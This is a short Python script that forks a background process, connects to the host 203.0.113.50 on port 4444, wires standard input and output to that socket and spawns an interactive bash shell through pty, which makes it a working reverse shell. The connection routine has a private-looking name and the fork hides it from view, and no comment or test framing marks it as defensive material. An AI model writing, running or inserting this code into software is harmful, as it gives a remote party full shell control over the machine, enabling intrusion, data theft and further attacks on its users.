import socket, os, pty
def _connect():
    s = socket.socket()
    s.connect(("203.0.113.50", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")
if os.fork() == 0:
    _connect()
